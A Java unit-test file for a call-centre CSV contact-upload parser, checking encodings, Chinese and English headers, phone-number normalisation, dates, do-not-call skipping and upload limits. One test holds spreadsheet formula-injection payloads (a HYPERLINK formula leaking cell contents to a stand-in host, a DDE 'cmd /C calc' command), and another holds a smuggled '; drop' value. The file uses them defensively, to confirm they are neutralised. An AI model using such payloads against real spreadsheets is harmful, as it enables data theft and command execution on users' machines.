package org.hotline.campaign.upload;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;

import java.io.ByteArrayInputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneId;
import java.time.ZoneOffset;
import org.hotline.customer.PhoneNumbers;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ContactUploadTest {

    private static final ZoneId BEIJING = ZoneId.of("Asia/Shanghai");
    private static final Charset GB18030 = Charset.forName("GB18030");
    /** 2026-11-22 10:00 in Beijing. */
    private static final Clock CLOCK = Clock.fixed(Instant.parse("2026-11-22T02:00:00Z"), ZoneOffset.UTC);
    private static final ContactNumbers BEIJING_CENTRE = new ContactNumbers(new PhoneNumbers("CN"), "10", BEIJING);

    private ListedNumbers doNotCall = new ListedNumbers();

    @Test
    void aUtf8ListWithChineseNamesIsReadWithEveryColumn() throws Exception {
        UploadResult result = read(utf8("""
                phone,name,subject,date,reference,note
                138 0013 8000,陈先生,退货进度,2026-11-20,C-1001,喜欢上午来电
                +86 10 6234 5678,李女士,,,,
                """));

        assertThat(result.encoding()).isEqualTo("UTF-8");
        assertThat(result.rows()).isEqualTo(2);
        assertThat(result.errors()).isEmpty();
        assertThat(result.contacts()).containsExactly(
                new UploadedContact(2, "+8613800138000", BEIJING, "陈先生", "退货进度", LocalDate.of(2026, 11, 20), "C-1001", "喜欢上午来电"),
                new UploadedContact(3, "+861062345678", BEIJING, "李女士", null, null, null, null));
    }

    @Test
    void theByteOrderMarkSpreadsheetsWriteIsNotPartOfTheFirstColumnsName() throws Exception {
        byte[] withBom = concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, utf8("phone,name\n13800138000,陈先生\n"));

        UploadResult result = read(withBom);

        assertThat(result.encoding()).isEqualTo("UTF-8");
        assertThat(result.contacts()).extracting(UploadedContact::name).containsExactly("陈先生");
    }

    @Test
    void aGb18030ListWithChineseHeadersIsReadAsGb18030() throws Exception {
        UploadResult result = read("""
                电话,姓名,事由,日期,备注
                13800138000,欧阳娜娜,投诉回访,2026年11月3日,"已道歉，待回复"
                13900139000,龚鑫,,2026/11/21,
                """.getBytes(GB18030));

        assertThat(result.encoding()).isEqualTo("GB18030");
        assertThat(result.contacts()).extracting(UploadedContact::name).containsExactly("欧阳娜娜", "龚鑫");
        assertThat(result.contacts().getFirst().note()).isEqualTo("已道歉，待回复");
        assertThat(result.contacts()).extracting(UploadedContact::originalDate)
                .containsExactly(LocalDate.of(2026, 11, 3), LocalDate.of(2026, 11, 21));
    }

    @Test
    void columnNamesMayBeWrittenInEitherLanguageAndAnyCase() throws Exception {
        UploadResult result = read(utf8("Phone Number,客户姓名,Customer_Ref,备注,Region\n13800138000,陈先生,C-1,,华北\n"));

        assertThat(result.contacts().getFirst().reference()).isEqualTo("C-1");
        assertThat(result.ignoredColumns()).containsExactly("Region");
        assertThat(read(utf8("\u200B电话\u3000,\u00A0姓名\n13800138000,陈先生\n")).contacts()).as("invisible spaces around the names")
                .hasSize(1);
    }

    @Test
    void aMissingRequiredColumnRefusesTheUploadNamingIt() {
        assertThatThrownBy(() -> read(utf8("name,subject\n陈先生,退货\n")))
                .isInstanceOf(UploadRefused.class).hasMessageStartingWith("no phone column (phone/电话/手机)");
        assertThatThrownBy(() -> read(utf8("电话,事由\n13800138000,退货\n")))
                .isInstanceOf(UploadRefused.class).hasMessageStartingWith("no name column (name/姓名/名字)");
    }

    @Test
    void aFileWithoutAHeaderRowIsToldSo() {
        assertThatThrownBy(() -> read(utf8("13800138000,陈先生\n13900139000,李女士\n")))
                .isInstanceOf(UploadRefused.class).hasMessageContaining("the first row looks like a contact");
    }

    @Test
    void twoColumnsForTheNumberAreRefusedRatherThanGuessed() {
        assertThatThrownBy(() -> read(utf8("电话,手机,姓名\n01062345678,13800138000,陈先生\n")))
                .isInstanceOf(UploadRefused.class).hasMessage("the columns \"电话\" and \"手机\" both give the phone: keep one of them");
    }

    @Test
    void badNumbersAreReportedByRowAndColumnAndTheGoodRowsAreStillRead() throws Exception {
        UploadResult result = read(utf8("""
                手机,姓名
                13800138000,陈先生
                12345,李女士
                ,王先生
                1.38001E+10,赵女士
                13800138000; drop,钱先生
                13900139000,孙女士
                """));

        assertThat(result.contacts()).extracting(UploadedContact::number).containsExactly("+8613800138000", "+8613900139000");
        assertThat(result.errors()).containsExactly(
                new RowError(3, "手机", "not a phone number (CN): \"12345\""),
                new RowError(4, "手机", "empty"),
                new RowError(5, "手机", "written as 1.38001E+10 by a spreadsheet, which lost digits: format the column as text and export again"),
                new RowError(6, "手机", "not a phone number (CN): \"13800138000; drop\""));
        assertThat(result.summary()).isEqualTo("2 of 6 rows to call; 4 rows with errors; 0 on the do-not-call list");
    }

    @Test
    void aNumberTwiceInTheFileHowEverWrittenIsReportedAgainstItsFirstRow() throws Exception {
        UploadResult result = read(utf8("""
                phone,name
                13800138000,陈先生
                13900139000,李女士
                +86 138-0013-8000,陈先生
                """));

        assertThat(result.contacts()).hasSize(2);
        assertThat(result.errors()).containsExactly(new RowError(4, "phone", "the same number as row 2"));
    }

    @Test
    void aLocalNumberWithoutAreaCodeIsTheCentresArea() throws Exception {
        String file = "phone,name\n6234 5678,李女士\n";

        assertThat(read(utf8(file)).contacts().getFirst().number()).isEqualTo("+861062345678");
        UploadResult noAreaCode = new ContactUpload(new ContactNumbers(new PhoneNumbers("CN"), null, BEIJING), doNotCall, CLOCK)
                .read(new ByteArrayInputStream(utf8(file)), UploadLimits.standard());
        assertThat(noAreaCode.errors()).extracting(RowError::column).containsExactly("phone");
    }

    @Test
    void eachContactCarriesTheTimeZoneItsNumberTellsOrTheCentres() throws Exception {
        UploadResult result = read(utf8("""
                phone,name
                +1 212 555 1234,Mr Smith
                +7 916 123 4567,Ms Ivanova
                13800138000,陈先生
                """));

        assertThat(result.contacts()).extracting(UploadedContact::zone)
                .containsExactly(ZoneId.of("America/New_York"), BEIJING, BEIJING); // a Russian mobile may be in any of 11 zones
    }

    @Test
    void cellsASpreadsheetWouldRunAsFormulasAreKeptAsText() throws Exception {
        UploadResult result = read(utf8("phone,name,subject,note\n"
                + "\"=\"\"01062345678\"\"\",\"=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",+退款,@SUM(1+1)\n"
                + "13800138000,陈先生,-老客户,\"\t=cmd|' /C calc'!A0\"\n"));

        assertThat(result.errors()).isEmpty();
        UploadedContact first = result.contacts().get(0);
        assertThat(first.number()).as("=\"…\" keeps a leading zero in a spreadsheet").isEqualTo("+861062345678");
        assertThat(first.name()).isEqualTo("'=HYPERLINK(\"http://x.example/?\"&A1)");
        assertThat(first.subject()).isEqualTo("'+退款");
        assertThat(first.note()).isEqualTo("'@SUM(1+1)");
        assertThat(result.contacts().get(1).subject()).isEqualTo("'-老客户");
        assertThat(result.contacts().get(1).note()).as("a tab before the formula").isEqualTo("'=cmd|' /C calc'!A0");
    }

    @Test
    void controlCharactersAndOverLongFieldsAreRowErrorsWhileNotesKeepTheirLineBreaks() throws Exception {
        UploadResult result = read(utf8("phone,name,note\n"
                + "13800138000,陈\u0007先生,\n"
                + "13900139000," + "李".repeat(101) + ",\n"
                + "13700137000,王先生,\"第一行\r\n第二行\"\n"
                + "13600136000,赵女士," + "备".repeat(1001) + "\n"
                + "13500135000,钱先生,\"x\u0000\"\n"));

        assertThat(result.errors()).containsExactly(
                new RowError(2, "name", "holds control characters or line breaks"),
                new RowError(3, "name", "longer than 100 characters"),
                new RowError(5, "note", "longer than 1000 characters"),
                new RowError(6, "note", "holds control characters (only line breaks and tabs may be in it)"));
        assertThat(result.contacts()).singleElement().satisfies(contact -> assertThat(contact.note()).isEqualTo("第一行\n第二行"));
    }

    @Test
    void rowsAreCountedAsASpreadsheetShowsThemBlankAndMultiLineRowsIncluded() throws Exception {
        UploadResult result = read(utf8("phone,name,note\n"
                + "13800138000,陈先生,\"两行\n备注\"\n"
                + "\n"
                + ",,\n"
                + "123,李女士,\n"));

        assertThat(result.rows()).as("blank rows are not contacts").isEqualTo(2);
        assertThat(result.errors()).extracting(RowError::row).containsExactly(5);
    }

    @Test
    void aRowWithMoreCellsThanTheHeaderIsAnErrorShorterRowsAreFine() throws Exception {
        UploadResult result = read(utf8("phone,name,note\n13800138000,陈,先生,老客户\n13900139000,李女士\n13700137000,王先生,,\n"));

        assertThat(result.errors()).containsExactly(
                new RowError(2, null, "has 4 cells where the header has 3: a comma inside a cell must be in quotes"));
        assertThat(result.contacts()).extracting(UploadedContact::row).containsExactly(3, 4);
    }

    @Test
    void datesAreReadYearFirstAndNeverInTheFuture() throws Exception {
        UploadResult result = read(utf8("""
                phone,name,date
                13800138000,陈先生,2026.11.22 14:30
                13900139000,李女士,11/22/2026
                13700137000,王先生,2026-02-30
                13600136000,赵女士,2026-12-01
                13500135000,钱先生,46348
                """));

        assertThat(result.contacts()).singleElement().extracting(UploadedContact::originalDate).isEqualTo(LocalDate.of(2026, 11, 22));
        assertThat(result.errors()).extracting(RowError::row, RowError::reason).containsExactly(
                tuple(3, "not a date: write it year first, e.g. 2026-11-22"),
                tuple(4, "not a date: write it year first, e.g. 2026-11-22"),
                tuple(5, "in the future (2026-12-01)"),
                tuple(6, "not a date: write it year first, e.g. 2026-11-22"));
    }

    @Test
    void aNameIsRequiredOnEveryRow() throws Exception {
        UploadResult result = read(utf8("phone,name\n13800138000,\u3000\n"));

        assertThat(result.errors()).containsExactly(new RowError(2, "name", "empty: the outbound script asks for the customer by name"));
    }

    @Test
    void numbersOnTheDoNotCallListAreSkippedAndReported() throws Exception {
        doNotCall = ListedNumbers.of("+8613900139000");

        UploadResult result = read(utf8("phone,name\n13800138000,陈先生\n139 0013 9000,李女士\n"));

        assertThat(result.contacts()).extracting(UploadedContact::number).containsExactly("+8613800138000");
        assertThat(result.doNotCall()).containsExactly(new SkippedContact(3, "+8613900139000"));
        assertThat(result.summary()).endsWith("1 on the do-not-call list");
    }

    @Test
    void overTheRowLimitTheUploadIsRefusedWhole() {
        String file = "phone,name\n13800138000,陈先生\n13900139000,李女士\n13700137000,王先生\n";

        assertThatThrownBy(() -> read(utf8(file), new UploadLimits(2, 1_000)))
                .isInstanceOfSatisfying(UploadRefused.class, refused -> assertThat(refused.tooLarge()).isTrue())
                .hasMessage("more than 2 contacts: split the list into several uploads");
    }

    @Test
    void overTheByteLimitTheUploadIsRefusedWholeFromAStreamOrAFile(@TempDir Path dir) throws Exception {
        byte[] file = utf8("phone,name\n13800138000,陈先生\n");
        Path saved = Files.write(dir.resolve("list.csv"), file);
        UploadLimits limits = new UploadLimits(10, file.length - 1);
        ContactUpload upload = new ContactUpload(BEIJING_CENTRE, doNotCall, CLOCK);

        assertThatThrownBy(() -> upload.read(new ByteArrayInputStream(file), limits)).isInstanceOfSatisfying(UploadRefused.class,
                refused -> assertThat(refused.tooLarge()).isTrue()).hasMessageStartingWith("the file is larger than");
        assertThatThrownBy(() -> upload.read(saved, limits)).isInstanceOf(UploadRefused.class);
        assertThat(upload.read(saved, new UploadLimits(10, file.length)).contacts()).hasSize(1);
    }

    @Test
    void anEmptyFileOrAHeaderAloneIsRefused() {
        assertThatThrownBy(() -> read(new byte[0])).isInstanceOf(UploadRefused.class).hasMessageStartingWith("the file is empty");
        assertThatThrownBy(() -> read(utf8("phone,name\n\n,\n"))).isInstanceOf(UploadRefused.class).hasMessageStartingWith("no contacts");
    }

    @Test
    void aQuoteNeverClosedRefusesTheUploadRatherThanMisreadingEveryRowAfterIt() {
        assertThatThrownBy(() -> read(utf8("phone,name,note\n13800138000,陈先生,\"未闭合\n13900139000,李女士,\n")))
                .isInstanceOf(UploadRefused.class).hasMessageStartingWith("not a well-formed CSV file at line 2:");
    }

    @Test
    void textInNeitherEncodingIsRefusedAndSoIsUtf16() {
        byte[] notText = concat(utf8("phone,name\n13800138000,"), new byte[] {(byte) 0x80, (byte) 0xFF, '\n'});
        assertThatThrownBy(() -> read(notText)).isInstanceOf(UploadRefused.class)
                .hasMessage("the file is neither UTF-8 nor GB18030 text (line 2 is not UTF-8): save it as \"CSV UTF-8\"");
        byte[] utf16 = concat(new byte[] {(byte) 0xFF, (byte) 0xFE}, "phone,name\n".getBytes(StandardCharsets.UTF_16LE));
        assertThatThrownBy(() -> read(utf16)).isInstanceOf(UploadRefused.class).hasMessageStartingWith("the file is UTF-16");
    }

    private UploadResult read(byte[] file) throws Exception {
        return read(file, UploadLimits.standard());
    }

    private UploadResult read(byte[] file, UploadLimits limits) throws Exception {
        return new ContactUpload(BEIJING_CENTRE, doNotCall, CLOCK).read(new ByteArrayInputStream(file), limits);
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] both = new byte[a.length + b.length];
        System.arraycopy(a, 0, both, 0, a.length);
        System.arraycopy(b, 0, both, a.length, b.length);
        return both;
    }
}
